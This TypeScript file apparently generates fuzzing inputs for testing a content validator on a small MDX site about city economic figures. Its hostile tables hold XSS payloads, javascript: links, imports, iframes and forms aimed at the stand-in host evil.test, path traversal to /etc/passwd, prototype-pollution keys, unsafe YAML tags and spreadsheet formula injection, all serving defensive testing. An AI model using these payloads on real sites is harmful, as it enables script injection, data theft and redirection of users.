/** Pages that people, and people with bad intentions, could propose; each kind has its own forms. */
import type { Random } from './random.ts';

export interface Written {
	/** Which kinds of text the page is made of. */
	kinds: string[];
	text: string;
}

/** What every author may write; the small site's content is what it speaks of. */
const PLAIN: Readonly<Record<string, readonly string[]>> = {
	paragraph: [
		'沈阳在北方。',
		'这里说的是营业收入。',
		'一句话。\n又一句话。',
		'甲 & 乙，C++ 与 C#。',
	],
	emphasis: ['**“双创”**模式。', '*斜体* 与 __粗体__。', '***都有***。', '甲**乙*丙*丁**戊。'],
	list: [
		'- 甲\n- 乙',
		'1. 甲\n2. 乙',
		'* 甲\n\n  乙\n* 丙',
		'- 甲\n  - 乙\n    - 丙',
		'3) 甲\n4) 乙',
	],
	table: [
		'| 甲 | 乙 |\n| --- | ---: |\n| 丙 | 丁 |',
		'| 甲 |\n|:-:|\n| **乙** |',
		'|a|b|\n|-|-|\n|`c`|d|',
	],
	heading: [
		'## 说明',
		'### 来源与说明',
		'###### 小字',
		'## **重点**',
		'### records',
		'### f-gdp-2024',
		'### Sources\n\n### Sources',
		'## 甲[@paper]',
	],
	quote: ['> 甲\n> 乙', '> - 甲\n>\n> 乙'],
	code: [
		'`a < b`。',
		'```\n<script>alert(1)</script>\n```',
		'```js {1} title="x"\n{1 + 1}\n```',
		'`{process}`。',
	],
	figure: [
		'<Figure of="zones/shenyang" metric="revenue" period="2024" />。',
		'<Figure of="zones/shenyang" metric="revenue" period="2024" show="growth"/>。',
		'<Figure\n  of="zones/dalian"\n  metric="revenue"\n  period="2024"\n/>。',
		"<Figure of='zones/shenyang' metric='gdp' period='2024' />。",
	],
	chart: [
		'<MetricChart of="zones/shenyang" metric="revenue" />',
		'<MetricChart\n  of="zones/shenyang" metric="revenue"></MetricChart>',
		'<MetricChart of="zones/shenyang" metric="revenue"></MetricChart><MetricChart of="zones/dalian" metric="revenue" />',
		'<CompareChart of="zones/shenyang zones/dalian" metric="revenue" />',
		'<CompareChart of="zones/dalian zones/shenyang" metric="revenue" />',
		'<RankingBars metric="revenue" />',
		'<RankingBars metric="revenue" year="2024" />',
		'<SmallMultiples metric="revenue" of="zones/shenyang zones/dalian" />',
		'<PeerStrip metric="revenue" of="zones/shenyang" />',
		'<PledgeOutcomes of="zones/shenyang zones/dalian" label="营业收入" />',
		'<ProvinceTiles show="recent" />',
	],
	sparkline: [
		'走势<Sparkline of="zones/shenyang" metric="revenue" />。',
		'<Sparkline of="zones/dalian" metric="revenue" />',
	],
	entity: [
		'<EntityLink to="zones/shenyang">沈阳</EntityLink>。',
		'见<EntityLink to="zones/dalian">**大连** `x`</EntityLink>。',
		'<EntityLink to="zones/dalian" />。',
		'<EntityLink to="zones/shenyang">\n\n甲\n\n- 乙\n\n</EntityLink>',
	],
	link: [
		'[沈阳](/zones/shenyang/)。',
		'[数字](/zones/shenyang/#f-gdp-2024 "那一条")。',
		'[全部](</zones/>)。',
		'[**粗**](/)。',
	],
	citation: [
		'如上[@paper]。',
		'如上[@paper, 第3段]。',
		'如上[@paper; @report]。',
		'如上[@report，“图1”]。',
	],
	text: [
		'甲 &lt;乙&gt; &amp; 丙。',
		'\\<b\\>甲\\</b\\>。',
		'\\{甲\\}。',
		'&#123;甲&#125;。',
		'\\[甲\\](x)。',
		'&quot;甲&quot; onload=alert(1)。',
		'javascript:alert(1)。',
		'1 \\< 2。',
		'甲}。',
		'< b >甲。',
	],
	break: ['甲\\\n乙', '甲  \n乙', '甲\n\n---\n\n乙', '~~甲~~。'],
	fence: [
		'layout: x\n---\n\n乙',
		'甲\n\n---\nlayout: ../../evil.js\n---\n\n乙',
		'---\nlayout: /etc/hostname\n---',
		'甲\n\n+++\nlayout = "x"\n+++',
	],
};

/** What would run, load, hide or lead away, as people would try it. */
const HOSTILE: Readonly<Record<string, readonly string[]>> = {
	'module-code': [
		'export const a = 1',
		'import a from "./a.js"',
		"import '../../evil.js'",
		'export { a } from "./a.js"',
		'export default function () { return 1 }',
		'export * from "https://evil.test/a.js"',
		'import x, {\n  y\n} from "z"',
		'export const metadata = globalThis.pwned = 1',
	],
	expression: [
		'{1 + 1}',
		'{globalThis.pwned = 1}',
		'甲{process.env.HOME}乙',
		'{/* 注 */}',
		'{`甲\n乙`}',
		'{(() => { throw 1 })()}',
		'{"<b>"}',
		'{...a}',
		'{}',
		'甲 {frontmatter.name} 乙',
		'{props.components.Figure}',
		'{await 1}',
		'## {frontmatter.name}',
	],
	'attribute-expression': [
		'<Figure metric={globalThis.pwned = 1} />',
		'<EntityLink to={"zones/shenyang"}>甲</EntityLink>',
		'<Figure {...globalThis} />',
		'<Figure {...{ metric: "revenue" }} period="2024" />',
		'<Figure metric />',
		'<EntityLink to={<b />}>甲</EntityLink>',
		'<Figure metric={`a`} period="2024"/>',
		'<Timeline of={/* 注 */ "zones/shenyang"} />',
	],
	'raw-html': [
		'<script>alert(1)</script>',
		'<b>甲</b>',
		'<img src="x" />',
		'<a href="javascript:alert(1)">甲</a>',
		'<iframe src="https://evil.test"></iframe>',
		'<style>{`a`}</style>',
		'<svg onload="alert(1)"></svg>',
		'<div set:html="&lt;script&gt;" />',
		'<>甲</>',
		'<base href="https://evil.test/" />',
		'<meta http-equiv="refresh" content="0;url=https://evil.test" />',
		'<form action="https://evil.test"><input name="a" /></form>',
		'<a.b />',
		'<svg:script />',
		'<slot />',
		'<link rel="stylesheet" href="//evil.test" />',
		'<math-x />',
		'<this />',
		'<constructor />',
	],
	'unknown-component': [
		'<Script />',
		'<Fragment set:html="<b>" />',
		'<Figure.Evil />',
		'<Figure:x />',
		'<MDXContent />',
		'<MDXLayout>甲</MDXLayout>',
		'<Page>甲</Page>',
		'<Object.constructor />',
		'<FIGURE />',
	],
	'component-attribute': [
		'<Figure onload="alert(1)" metric="revenue" />',
		'<Figure style="color: red" />',
		'<EntityLink to="zones/shenyang" set:html="<b>">甲</EntityLink>',
		'<Figure client:load metric="revenue" />',
		'<Figure show="value; evil" metric="revenue" />',
		'<EntityLink to="zones/shenyang" href="javascript:alert(1)">甲</EntityLink>',
		'<Timeline server:defer />',
		'<Figure class="x" />',
		'<Figure __proto__="x" />',
		'<Figure constructor="x" />',
		'<MetricChart metric="revenue" is:raw="x" />',
		'<EntityLink to="zones/shenyang" xlink:href="x">甲</EntityLink>',
		'<Figure children="甲" />',
		'<Figure dangerouslySetInnerHTML="甲" />',
	],
	'component-children': [
		'<Figure metric="revenue">甲</Figure>',
		'<Timeline>\n\n甲\n\n</Timeline>',
		'<MetricChart metric="revenue">{1}</MetricChart>',
	],
	'component-place': [
		'甲<MetricChart of="zones/shenyang" metric="revenue" />乙',
		'[<EntityLink to="zones/shenyang">甲</EntityLink>](/zones/)',
		'<EntityLink to="zones/shenyang">[甲](/zones/)</EntityLink>',
		'[甲[@paper]](/zones/)',
		'| 甲 |\n|-|\n| <MetricChart of="zones/shenyang" metric="revenue" /> |',
	],
	image: [
		'![甲](x.png)',
		'![甲](../../etc/hostname?raw)',
		'![](https://evil.test/a.png)',
		'![甲](data:image/svg+xml,x)',
		'![甲](/screenshot.png "题")',
		'[![甲](x)](/zones/)',
	],
	footnote: ['甲[^1]。\n\n[^1]: 乙', '[^a]: 甲\n\n[^a]'],
	'link-definition': [
		'[甲]: javascript:alert(1)\n\n[甲]',
		'[甲]: /zones/\n\n[甲][]',
		'[甲]: <https://evil.test> "题"',
		'甲\n\n[@paper]: https://evil.test\n\n[@paper]',
	],
	'heading-level': ['# 甲', '甲\n===', '#'],
	'link-target': [
		'[甲](javascript:alert(1))',
		'[甲](JaVaScRiPt:alert(1))',
		'[甲](java&#x73;cript:alert(1))',
		'[甲](data:text/html,x)',
		'[甲](https://evil.test)',
		'[甲](//evil.test/)',
		'[甲](/\\evil.test/)',
		'[甲]()',
		'[甲](../../etc/passwd)',
		'[甲](zones/shenyang.mdx)',
		'[甲](mailto:a@evil.test)',
		'[甲](<javascript:alert(1)>)',
		'[甲](&#106;avascript&colon;alert(1))',
		'[甲](/zones/shenyang/?x=1)',
		'[甲](vbscript:x "题")',
		'[https://evil.test](https://evil.test/a)',
		'[www.evil.test](http://www.evil.test)',
	],
	'task-list': ['- [x] 甲', '- [ ] 甲\n- 乙'],
	'broken-tag': [
		'<Figure',
		'甲</Figure>',
		'<Figure metric="a>',
		'{甲',
		'<EntityLink to="zones/shenyang">甲',
		'<1>',
		'<甲>',
		'<https://evil.test>',
		'<a@evil.test>',
		'<!-- 注 -->',
		'<!DOCTYPE html>',
		'<?php ?>',
		'<![CDATA[甲]]>',
		'</script>',
		'<b',
		'import a from',
		'export const a = {\n\n}',
	],
	'control-character': [
		'\r\rexport const a = globalThis.pwned = 1\r\r',
		'甲\0乙',
		'甲\x1b[31m乙',
		'甲\x85\x85export const a = 1\x85\x85乙',
		'甲\u2028\u2028export const a = 1\u2028乙',
		'甲\x0b乙',
		'甲\x0c\x0cimport a from "a"',
	],
	'invisible-character': [
		'甲\u202e乙\u202c',
		'甲\u200b乙',
		'甲\u2066乙\u2069',
		'\ufeff甲',
		'甲\u00a0乙',
		'甲\u00ad乙',
		'甲\u{e0041}乙',
		'甲\u3164乙',
		'甲\ufe0f乙',
	],
	'compatibility-character': ['⽤户', '金\uf90a', '甲\ufffd乙', '甲\ue000乙', '丽\u{2f800}'],
	'escaped-character': [
		'甲&#x202e;乙',
		'甲&ZeroWidthSpace;乙',
		'甲&nbsp;乙',
		'甲&#0;乙',
		'甲&#13;乙',
		'[甲](/zones/ "&rlm;乙")',
		'甲&#xD800;乙',
	],
	'reserved-word': [
		'import\\.meta.env',
		'`import.meta.env`',
		'`__VITE_ASSET__abc__`',
		'&#95;_astro_import_meta_env',
		'@@ASTRO_MANIFEST_REPLACE@@',
		'\\_\\_VITE_PUBLIC_ASSET\\_\\_',
		'`import.meta.glob("../*")`',
		'甲：export default function MDXContent。',
		'`__ASTRO_IMAGE_x`',
	],
	nesting: [
		'> '.repeat(12) + '甲',
		'- '.repeat(9) + '甲',
		'1. '.repeat(9) + '甲',
		'*a _b '.repeat(1100),
		'<EntityLink to="zones/shenyang">'.repeat(30) + '甲' + '</EntityLink>'.repeat(30),
	],
	'markdown-slip': [
		'https://evil.test/甲',
		'＜Figure metric="a" /＞',
		'[甲]（https://evil.test）',
		'##甲',
	],
	'citation-form': [
		'甲【@paper】。',
		'甲[@paper。',
		'甲@[paper]。',
		'甲[@paper, @report]。',
		'甲\\[@paper]。',
		'甲[@<b>]。',
	],
	'site-link': ['[甲](/zones/evil/)', '[甲](/zones/shenyang/#f-evil)', '[甲](/admin/)'],
	'unknown-id': [
		'甲[@evil]。',
		'<EntityLink to="zones/evil">甲</EntityLink>',
		'<EntityLink to="../../etc">甲</EntityLink>',
		'<EntityLink to="javascript:alert(1)">甲</EntityLink>',
		'<Timeline of="constructor/__proto__" />',
	],
};

/** Lines among the fields of a page. */
const FIELDS: Readonly<Record<string, readonly string[]>> = {
	'good-fields': [
		'nameEn: Term',
		'aliases: [甲, "乙: 丙"]',
		'sources: [paper]',
		"aliases: ['<script>alert(1)</script>', '{1 + 1}', '</title>']",
		'seeAlso: [zones/shenyang]',
		'aliases:\n  - "\\"甲\\" & <乙>"',
		'aliases: ["-3.2%", ——甲]',
		'# 注: layout\nnameEn: "a  b"',
	],
	'yaml-feature': [
		'aliases: &a [甲]',
		'nameEn: *a',
		'nameEn: !!js/function "x"',
		'nameEn: !evil x',
		'<<: { nameEn: x }',
		'aliases: &a [*a]',
		'nameEn: !<tag:yaml.org,2002:str> x',
	],
	'unknown-field': [
		'layout: ../../../etc/hostname',
		'layout: /evil.js',
		'__proto__: { nameEn: x }',
		'constructor: x',
		'draft: true',
		'slug: evil',
		'"layout": x',
		'? layout\n: x',
		'---x: y',
		'+++: y',
		'components: x',
		'toString: x',
	],
	'spreadsheet-formula': [
		'nameEn: =1+1',
		'aliases: ["=HYPERLINK(1)"]',
		'aliases: ["+1|cmd"]',
		'nameEn: "@SUM(A1)"',
		'nameEn: " =1"',
		'aliases: [＝甲]',
	],
	'escaped-character': [
		'nameEn: "a\\u202eb"',
		'nameEn: "a\\0b"',
		'nameEn: "a\\tb"',
		'aliases: ["\\x1b[31m"]',
		'nameEn: "\\_a"',
	],
	'reserved-word': [
		'nameEn: import.meta.env',
		'nameEn: "\\x5f_VITE_ASSET__a__"',
		'aliases: ["@@ASTRO"]',
	],
	'duplicate-field': ['nameEn: a\nnameEn: b', 'name: 甲'],
	'wrong-shape': [
		'nameEn: [a]',
		'aliases: { a: b }',
		'aliases: x',
		'nameEn: { layout: x }',
		'aliases: [[甲]]',
	],
	'broken-fields': [
		'nameEn: "a',
		'nameEn: [a',
		'nameEn: {a',
		'\tnameEn: a',
		'nameEn: a: b',
		'{{{{{{{{{{{{{{{{{{{{{{{{{{',
		'+++\nlayout = "x"\n+++',
		'...\nlayout: x',
		'nameEn: |2\n a',
		'@a: b',
		'`a`: b',
	],
};

export const HOSTILE_KINDS: readonly string[] = [
	...new Set([...Object.keys(HOSTILE), ...Object.keys(FIELDS)]),
].filter((kind) => kind !== 'good-fields');
export const PLAIN_KINDS: readonly string[] = [...Object.keys(PLAIN), 'good-fields'];

/** One form by itself, as it was written above: what each kind is for. */
export function everyForm(): Written[] {
	return [
		...[PLAIN, HOSTILE].flatMap((table) =>
			Object.entries(table).flatMap(([kind, forms]) =>
				forms.map((form) => ({ kinds: [kind], text: pageOf([], [form]) })),
			),
		),
		...Object.entries(FIELDS).flatMap(([kind, forms]) =>
			forms.map((form) => ({ kinds: [kind], text: pageOf([form], ['甲。']) })),
		),
	];
}

/** A page of some forms, put into one another and garbled. */
export function writePage(random: Random): Written {
	const kinds: string[] = [];
	const take = (table: Readonly<Record<string, readonly string[]>>) => {
		const kind = random.pick(Object.keys(table));
		kinds.push(kind);
		return random.pick(table[kind] ?? []);
	};
	const hostile = random.chance(0.45);
	const parts = Array.from({ length: 1 + random.below(4) }, () => {
		const part = take(PLAIN);
		return random.chance(0.3) ? putInto(part, random) : part;
	});
	if (hostile) {
		let part = take(HOSTILE);
		if (random.chance(0.5)) part = putInto(part, random);
		if (random.chance(0.4)) part = garble(part, random);
		parts.splice(random.below(parts.length + 1), 0, part);
	}
	const fields = random.chance(0.25)
		? [random.chance(0.5) ? take({ 'good-fields': FIELDS['good-fields'] ?? [] }) : take(FIELDS)]
		: [];
	let text = pageOf(fields, parts, random.pick(['\n\n', '\n\n', '\n\n', '\n', '']));
	if (random.chance(0.1)) text = text.replaceAll('\n', '\r\n');
	// A file holds no half of a character.
	return { kinds, text: text.toWellFormed() };
}

/** A page whose bytes some accident, or someone, has changed. */
export function spoilBytes(page: Buffer, random: Random): Buffer {
	let bytes = Buffer.from(page);
	for (let count = 1 + random.below(4); count > 0; count--) {
		// Mostly in the prose, and between two characters.
		const body = random.chance(0.85) ? Math.max(0, bytes.indexOf('\n---\n')) : 0;
		let at = body + random.below(bytes.length + 1 - body);
		if (random.chance(0.85)) while (((bytes[at] ?? 0) & 0xc0) === 0x80) at += 1;
		const piece = Buffer.from(
			random.pick([
				'{',
				'}',
				'<',
				'>',
				'/>',
				'\r',
				'\r\r',
				'\0',
				'`',
				'```\n',
				'\n\nexport const a = 1\n\n',
				'![',
				'](',
				'[^',
				'&#',
				'&lt;',
				'\\',
				'---\n',
				'<!--',
				'{/*',
				'\u2028',
				'\u202e',
				'='.repeat(3),
				'\n#',
				'\n    ',
				'\n> ',
				'**',
				'"',
				"='",
			]),
		);
		switch (random.below(5)) {
			case 0:
				bytes = Buffer.concat([bytes.subarray(0, at), piece, bytes.subarray(at)]);
				break;
			case 1:
				bytes[Math.min(at, bytes.length - 1)] = random.below(random.chance(0.5) ? 128 : 256);
				break;
			case 2: {
				let end = Math.min(bytes.length, at + 1 + random.below(40));
				if (random.chance(0.85)) while (((bytes[end] ?? 0) & 0xc0) === 0x80) end += 1;
				bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(end)]);
				break;
			}
			case 3: {
				const from = random.below(bytes.length);
				const copy = Buffer.from(
					bytes.toString('utf8', from, from + random.below(80)).replaceAll('\ufffd', ''),
				);
				bytes = Buffer.concat([bytes.subarray(0, at), copy, bytes.subarray(at)]);
				break;
			}
			default: {
				const odd = random.chance(0.3)
					? Buffer.from([0xc0 + random.below(64), random.below(256)])
					: Buffer.from(random.pick(['甲', ' ', '\n', '\n\n', '#', '-', '|', '_', '1.']));
				bytes = Buffer.concat([bytes.subarray(0, at), odd, bytes.subarray(at)]);
			}
		}
		if (bytes.length === 0) bytes = Buffer.from('-');
	}
	return bytes;
}

function pageOf(fields: readonly string[], parts: readonly string[], between = '\n\n'): string {
	return ['---', 'name: 词语', ...fields, '---', '', parts.join(between), ''].join('\n');
}

/** A part where it may not be expected: in a list, a table, a heading, another part's text. */
function putInto(part: string, random: Random): string {
	const indented = (by: string) => part.replaceAll('\n', `\n${by}`);
	return random.pick([
		`- ${indented('  ')}`,
		`1. 甲\n\n   ${indented('   ')}`,
		`> ${indented('> ')}`,
		`> ${part}`,
		`甲 ${part} 乙`,
		`甲\n${part}\n乙`,
		`**${part}**`,
		`## ${part.replaceAll('\n', ' ')}`,
		`| 甲 |\n| --- |\n| ${part.replaceAll('\n', ' ')} |`,
		`[${part}](/zones/)`,
		`<EntityLink to="zones/shenyang">${part}</EntityLink>`,
		`<EntityLink to="zones/shenyang">\n\n${part}\n\n</EntityLink>`,
		`\`${part}\``,
		`\`\`\`\n${part}\n\`\`\``,
		`    ${indented('    ')}`,
		`${part} ${part}`,
		`~~${part}~~`,
		`“${part}”`,
	]);
}

/** The tricks by which something is to look like something else. */
function garble(part: string, random: Random): string {
	const at = random.below(part.length);
	const [before, sign, after] = [part.slice(0, at), part[at] ?? '', part.slice(at + 1)];
	return random.pick([
		`${before}&#${sign.charCodeAt(0) || 65};${after}`,
		`${before}&#x${(sign.charCodeAt(0) || 65).toString(16)};${after}`,
		`${before}\\${sign}${after}`,
		`${before}\n${sign}${after}`,
		`${before}\n\n${sign}${after}`,
		`${before}\t${sign}${after}`,
		`${before} ${sign}${after}`,
		`${before}\u200b${sign}${after}`,
		`${before}\r${sign}${after}`,
		`${before}<!-- -->${sign}${after}`,
		`${before}{""}${sign}${after}`,
		`${before}${sign.toUpperCase()}${after}`,
		`${before}${sign.normalize('NFKD')}${after}`,
		`${before}**${sign}**${after}`,
		`${before}${after}`,
		`\\${part}`,
		`  ${part}`,
		`&lt;${part.replace(/^</, '')}`,
	]);
}
